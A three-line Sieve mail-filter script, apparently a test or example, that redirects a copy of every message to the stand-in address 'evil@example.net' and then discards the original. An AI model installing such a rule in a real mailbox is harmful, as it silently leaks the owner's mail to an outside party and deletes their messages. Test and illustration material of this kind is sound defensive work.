require "copy";
redirect :copy "evil@example.net";
discard;
